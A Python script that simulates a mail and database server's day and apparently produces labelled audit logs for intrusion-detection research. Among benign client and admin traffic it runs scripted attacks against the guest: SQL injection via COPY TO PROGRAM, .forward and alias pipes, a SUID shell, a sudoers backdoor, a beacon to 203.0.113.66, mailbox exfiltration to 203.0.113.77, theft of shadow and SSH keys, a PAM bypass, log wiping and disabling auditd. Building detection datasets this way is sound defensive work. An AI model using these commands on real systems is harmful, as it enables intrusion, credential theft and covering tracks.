"""The day of a mail and database server: clients and an administrator at work, an intruder, and honest novelties among them.

Speaks to the guest through ports of loopback, so that clients leave no traces in the guest but those of their requests. Writes the
guest's audit log, what ran when it began, and what happened when: { baseline, from, to, attacks: [{ id, kind, technique, start, end, match }] }, seconds of
the guest's clock. kind: attack; benign, something new that a person meant; aftermath, what an attack left behind and goes on.
"""
import argparse, email.message, gzip, http.client, imaplib, io, json, os, random, smtplib, subprocess, sys, tarfile, threading, time, traceback, urllib.parse

USERS = ['anna', 'bert', 'cleo', 'dora', 'emil']
WORDS = 'meeting invoice holiday printer budget lunch contract draft release travel survey backup password order'.split()
QUIET = 240  # seconds in which nothing new happens any more
GAP = 12

ask = argparse.ArgumentParser()
ask.add_argument('--port', type=int, required=True)
ask.add_argument('--key', required=True)
ask.add_argument('--out', required=True)
ask.add_argument('--baseline', type=int, default=900)
flags = ask.parse_args()
SSH, SMTP, IMAP, HTTP = range(flags.port, flags.port + 4)
over = threading.Event()

OPTIONS = ['-F', 'none', '-i', flags.key, '-o', 'StrictHostKeyChecking=no', '-o', 'UserKnownHostsFile=/dev/null', '-o', 'LogLevel=ERROR', '-o', 'ConnectTimeout=60']


def ssh(user, command=None, stdin=b'', tty=False):
    """One login; without a command a shell reads stdin."""
    words = ['ssh', *OPTIONS, '-p', str(SSH), *(['-tt'] if tty else []), f'{user}@127.0.0.1', *([command] if command else [])]
    return subprocess.run(words, input=stdin, stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=180)


def typed(user, *lines):
    """A shell on a terminal, at which someone types."""
    return ssh(user, stdin=''.join(f'{line}\n' for line in [*lines, 'exit']).encode(), tty=True)


def sftp(user, *lines):
    words = ['sftp', '-q', *OPTIONS, '-P', str(SSH), '-b', '-', f'{user}@127.0.0.1']
    done = subprocess.run(words, input='\n'.join(lines).encode(), stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=180)
    if done.returncode != 0:
        print('sftp:', done.stderr.decode(), flush=True)


def letter(to, subject=None):
    mail = email.message.EmailMessage()
    mail['From'] = f'{random.choice(["kim", "lou", "max"])}@client.example.test'
    mail['To'] = f'{to}@example.test'
    mail['Subject'] = subject or ' '.join(random.sample(WORDS, 3))
    mail.set_content('\n'.join(' '.join(random.choices(WORDS, k=9)) for _ in range(random.randint(2, 40))))
    return mail


def send(to):
    with smtplib.SMTP('127.0.0.1', SMTP, local_hostname='client.example.test', timeout=60) as smtp:
        smtp.send_message(letter(to))


def read_mail():
    user = random.choice(USERS)
    with imaplib.IMAP4('127.0.0.1', IMAP, timeout=60) as imap:
        imap.login(user, f'mail-{user}')
        imap.create('Sent')
        imap.select('INBOX')
        _, found = imap.search(None, 'UNSEEN')
        for number in found[0].split()[:5]:
            imap.fetch(number, '(RFC822)')
        _, found = imap.search(None, 'SEEN')
        for number in found[0].split()[:-10]:
            imap.store(number, '+FLAGS', '\\Deleted')
        imap.expunge()
        if random.random() < 0.3:
            imap.append('Sent', None, None, letter(random.choice(USERS)).as_bytes())


def web(method, path, body=None, headers={}):
    http_ = http.client.HTTPConnection('127.0.0.1', HTTP, timeout=60)
    http_.request(method, path, body, headers)
    http_.getresponse().read()
    http_.close()


def use_desk():
    chance = random.random()
    if chance < 0.3:
        web('POST', '/ticket', os.urandom(random.randint(100, 9000)), {'x-title': ' '.join(random.sample(WORDS, 2))})
    elif chance < 0.6:
        web('GET', f'/search?q={random.choice(WORDS)}')
    else:
        web('GET', '/tickets')


def share():
    name = time.strftime('scan-%Y%m%d-%H%M%S.pdf', time.gmtime(time.time() + ahead))
    with open(os.path.join(flags.out, 'document'), 'w') as file:
        file.write(letter('anna').as_string())
    sftp(random.choice(['anna', 'emil']), '-mkdir documents', f'put {flags.out}/document documents/{name}', 'ls documents')


CHORES = [
    ('mailq',), ('systemctl --no-pager status postfix',), ('tail -n 20 /var/log/mail.log',), ('df -h',), ('sudo postqueue -p',), ('uptime', 'free -m'),
    ('sudo -u postgres psql -c "select count(*) from ticket" desk',), ('apt-get -s upgrade',), ('journalctl -n 20 --no-pager',),
    ('ls -l /var/backups/desk',), ('sudo doveadm who',), ('ps aux', 'grep -c imap-login /var/log/mail.log'),
]
chores = []


def administer():
    if not chores:
        # sudo on a terminal takes what was typed ahead for itself, the exit too.
        chores.extend((lines, tty) for lines in CHORES for tty in (False, True) if not (tty and 'sudo' in lines[0]))
        random.shuffle(chores)
    lines, tty = chores.pop()
    if tty:
        typed('ops', *lines)
    else:
        ssh('ops', '; '.join(lines))


def again(work, least, most):
    def loop():
        while not over.wait(random.uniform(least, most)):
            try:
                work()
            except Exception as error:
                print(f'{work.__name__}: {error!r}', flush=True)
    return threading.Thread(target=loop, daemon=True)


def clock():
    """How far the guest's clock is ahead of ours, seconds."""
    shell = subprocess.Popen(['ssh', *OPTIONS, '-p', str(SSH), 'ops@127.0.0.1', 'while read -r _; do date +%s.%N; done'], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
    best = None
    for _ in range(5):
        before = time.time()
        shell.stdin.write(b'\n')
        shell.stdin.flush()
        guest, after = float(shell.stdout.readline()), time.time()
        if best is None or after - before < best[0]:
            best = (after - before, guest - (before + after) / 2)
    shell.stdin.close()
    shell.wait()
    return best[1]


# -- what the intruder does --

def forward():
    put = os.path.join(flags.out, 'put')
    with open(put, 'w') as file:
        file.write('#!/bin/sh\nid > /home/dora/.cache/out\nuname -a >> /home/dora/.cache/out\n')
    with open(f'{put}2', 'w') as file:
        file.write('\\dora, "|/home/dora/.cache/sync"\n')
    sftp('dora', '-mkdir .cache', f'put {put} .cache/sync', 'chmod 755 .cache/sync', f'put {put}2 .forward')
    send('dora')
    time.sleep(4)


def inject():
    web('GET', '/search?q=' + urllib.parse.quote("x'; copy (select '') to program 'id; uname -a; cat /etc/passwd'; select 1, 'a' where 'a' like '"))


def root(script):
    return lambda: ssh('ops', 'sudo bash -s', script.encode())


def aliases():
    root('''printf '#!/bin/sh\\ncat > /var/tmp/.copy\\nhostname\\n' > /usr/local/lib/.relay
chmod 755 /usr/local/lib/.relay
echo 'archive: "|/usr/local/lib/.relay"' >> /etc/aliases
newaliases
''')()
    send('archive')
    time.sleep(4)


def suid():
    root('cp /bin/bash /var/tmp/.b; chmod 4755 /var/tmp/.b\n')()
    ssh('bert', '/var/tmp/.b -p -c id')


MEMFD = '''import os
fd = os.memfd_create('k')
os.write(fd, open('/bin/id', 'rb').read())
os.execve(f'/proc/self/fd/{fd}', ['kworker'], {})
'''

EXFIL = '''import socket
peer = socket.create_connection(('203.0.113.77', 8443), 20)
peer.sendall(open('/var/tmp/.m.tgz', 'rb').read())
peer.close()
'''

BEACON = '''#!/usr/bin/python3
import socket, time
while True:
    try:
        socket.create_connection(('203.0.113.66', 443), 20).close()
    except OSError:
        pass
    time.sleep(20)
'''

UNIT = '''[Unit]
Description=Network helper
[Service]
ExecStart=/usr/local/sbin/net-helperd
[Install]
WantedBy=multi-user.target
'''

implant = f'''cat > /usr/local/sbin/net-helperd <<'END'
{BEACON}END
chmod 755 /usr/local/sbin/net-helperd
cat > /etc/systemd/system/net-helper.service <<'END'
{UNIT}END
systemctl enable --now net-helper
sleep 3
'''


def schedule():
    ssh('dora', '''mkdir -p ~/.k; printf '#!/bin/sh\\nuname -r > ~/.k/v\\n' > ~/.k/run; chmod 755 ~/.k/run; echo '* * * * * ~/.k/run' | crontab -''')


def exfiltrate():
    root('tar -czf /var/tmp/.m.tgz /home/*/Maildir\n')()
    ssh('ops', 'sudo python3 -', EXFIL.encode())


def deploy():
    here = os.path.join(os.path.dirname(os.path.abspath(__file__)), 'guest/srv/desk/app')
    pack = io.BytesIO()
    with tarfile.open(fileobj=pack, mode='w:gz') as tar:
        def add(name, text):
            info = tarfile.TarInfo(name)
            info.size, info.mtime = len(text), int(time.time() + ahead)
            tar.addfile(info, io.BytesIO(text))
        source = open(os.path.join(here, 'desk.py'), 'rb').read()
        add('desk.py', source.replace(b'import psycopg2\n', b'import psycopg2\n\nimport version\n', 1))
        add('version.py', b'VERSION = 2\n')
    ssh('ops', 'tar -xz -C /srv/desk/app', pack.getvalue())
    ssh('ops', 'sudo systemctl restart desk')
    time.sleep(3)


SECURITY = '/lib/x86_64-linux-gnu/security'
ACTS = [
    ('attack', 'forward-pipe', 'T1546', forward, [r'file:(CREATE|WRITE|RENAME|ATTR):/home/dora/\.(forward|cache)', r'local[^>]*->proc:[^>]*(dash|sync)', r'dora/\.cache/sync[^>]*->']),
    ('attack', 'copy-to-program', 'T1190/T1059.004', inject, [r'postgres[^>]*->proc:', r'->proc:[^>]*/usr/bin/(id|uname|cat|dash)[^>]*@postgres']),
    ('benign', 'new-command', '', lambda: typed('ops', 'postconf -n', 'vmstat', 'lsblk'), []),
    ('attack', 'aliases-pipe', 'T1546', aliases, [r'file:[A-Z]+:/etc/aliases', r'/usr/local/lib/\.relay', r'/var/tmp/\.copy']),
    ('attack', 'suid-shell', 'T1548.001', suid, [r'/var/tmp/\.b']),
    ('benign', 'package', '', lambda: ssh('ops', 'sudo apt-get install -y /opt/setup/tidyspool_1.2-1_all.deb'), []),
    ('attack', 'memfd', 'T1620', lambda: ssh('dora', 'python3 -', MEMFD.encode()), [r'memfd']),
    ('attack', 'cron-spool', 'T1053.003', schedule, [r'/var/spool/cron/', r'/home/dora/\.k']),
    ('attack', 'sudoers', 'T1548.003', root("echo 'dora ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/90-cloud; chmod 440 /etc/sudoers.d/90-cloud\n"), [r'/etc/sudoers\.d/90-cloud']),
    ('benign', 'restart', '', lambda: ssh('ops', 'sudo systemctl restart postfix'), []),
    ('attack', 'systemd-unit', 'T1543.002', root(implant), [r'net-helper', r'203\.0\.113\.66:443']),
    ('attack', 'spool-exfiltration', 'T1114/T1048', exfiltrate, [r'/var/tmp/\.m\.tgz', r'203\.0\.113\.77:8443']),
    ('benign', 'deploy', '', deploy, []),
    ('attack', 'key-theft', 'T1552.004/T1003.008', root('cat /etc/shadow /etc/ssh/ssh_host_ed25519_key /root/.ssh/id_ed25519\n'), [r'cat[^>]*->file:READ:(/etc/shadow|/etc/ssh|/root/\.ssh)']),
    ('attack', 'pam-module', 'T1556.003', root(f"cp {SECURITY}/pam_permit.so {SECURITY}/pam_unix2.so; echo 'session optional pam_unix2.so' >> /etc/pam.d/sshd\n"), [r'/security/pam_unix2', r'/etc/pam\.d/sshd']),
    ('attack', 'second-root', 'T1136.001', root("echo 'svc:x:0:0::/root:/bin/bash' >> /etc/passwd; echo 'svc:!:20000::::::' >> /etc/shadow\n"), [r'file:[A-Z]+:/etc/(passwd|shadow)']),
    ('attack', 'ld-preload', 'T1574.006', root('cp /lib/x86_64-linux-gnu/libm.so.6 /lib/x86_64-linux-gnu/libmx.so; echo /lib/x86_64-linux-gnu/libmx.so > /etc/ld.so.preload\n'), [r'libmx\.so', r'ld\.so\.preload']),
    ('attack', 'log-wiping', 'T1070.002', root('truncate -s 0 /var/log/mail.log; rm -f /var/log/auth.log; : > /var/log/wtmp\n'), [r'file:[A-Z]+:/var/log/(mail\.log|auth\.log|wtmp)']),
]
# The last of all: nothing is recorded after it.
BLIND = ('attack', 'audit-off', 'T1562.012', root('auditctl -D\n'), [r'->proc:[^>]*/auditctl', r'auditctl[^>]*->'])
AFTERMATH = [
    ('forward-pipe', [r'dora/\.cache', r'local[^>]*->proc:[^>]*dora/']),
    ('cron-spool', [r'/home/dora/\.k', r'/var/spool/cron/crontabs/dora', r'->proc:[^>]*dash -c@cron', r'dash[^>]*->proc:[^>]*uname']),
    ('systemd-unit', [r'net-helper', r'203\.0\.113\.66:443']),
    ('log-wiping', [r'file:[A-Z]+:/var/log/auth\.log$']),
]

labels = []


def act(kind, name, technique, work, match):
    start = time.time() + ahead
    try:
        done = work()
        if isinstance(done, subprocess.CompletedProcess) and done.returncode != 0:
            print(name, done.returncode, done.stderr.decode(errors='replace')[-500:], done.stdout.decode(errors='replace')[-500:], flush=True)
    except Exception:
        traceback.print_exc()
    labels.append({'kind': kind, 'id': name, 'technique': technique, 'start': round(start, 3), 'end': round(time.time() + ahead, 3), 'match': match})
    print(f'{time.strftime("%T", time.gmtime(start))} {kind} {name} {labels[-1]["end"] - start:.1f} s', flush=True)


def until(moment):
    time.sleep(max(0, moment - ahead - time.time()))


for _ in range(100):
    try:
        if b'running' in ssh('ops', 'systemctl is-system-running').stdout:
            break
    except subprocess.TimeoutExpired:
        pass
    time.sleep(2)
else:
    sys.exit('the guest does not come up')
print(ssh('ops', 'sudo bash /opt/setup/database').stderr.decode(), flush=True)
send('root')
time.sleep(10)
ahead = clock()
with open(os.path.join(flags.out, 'processes.json'), 'wb') as file:
    file.write(ssh('ops', 'sudo python3 /opt/setup/processes').stdout)
ssh('ops', 'sudo systemctl start auditd')
learned = time.time() + ahead + flags.baseline
print(f'{time.strftime("%T", time.gmtime(time.time() + ahead))} learning', flush=True)
work = [again(lambda: send(random.choice(USERS)), 3, 7), again(read_mail, 4, 9), again(use_desk, 2, 6), again(administer, 15, 25), again(share, 30, 50)]
for one in work:
    one.start()

# Cron's daily jobs come at 06:25, and get a minute without anything else.
daily = learned - learned % 86400 + 6 * 3600 + 25 * 60
until(learned + 25)
for one in ACTS:
    now = time.time() + ahead
    if daily - 45 < now < daily + 40:
        until(daily + 40)
    act(*one)
    time.sleep(GAP)
until(max(daily + 40, time.time() + ahead + QUIET))
labels.append({'kind': 'benign', 'id': 'daily-job', 'technique': '', 'start': daily, 'end': daily + 30, 'match': []})
act(*BLIND)
to = time.time() + ahead + 5
over.set()
for one in work:
    one.join(60)

log = ssh('ops', 'sudo cat /var/log/audit/audit.log').stdout
first = float(log.split(b'msg=audit(', 1)[1].split(b':', 1)[0])
labels += [{'kind': 'aftermath', 'id': f'{name}-aftermath', 'technique': '', 'start': next(l['end'] for l in labels if l['id'] == name), 'end': round(to, 3), 'match': match} for name, match in AFTERMATH]
with open(os.path.join(flags.out, 'labels.json'), 'w') as file:
    json.dump({'baseline': round(learned - first), 'from': round(learned, 3), 'to': round(to, 3), 'attacks': labels}, file, indent=1)
    file.write('\n')
with open(os.path.join(flags.out, 'audit.log.gz'), 'wb') as raw, gzip.GzipFile('', 'wb', 9, raw, 0) as file:
    file.write(log)
print(len(log), 'bytes', len(log.splitlines()), 'records', flush=True)
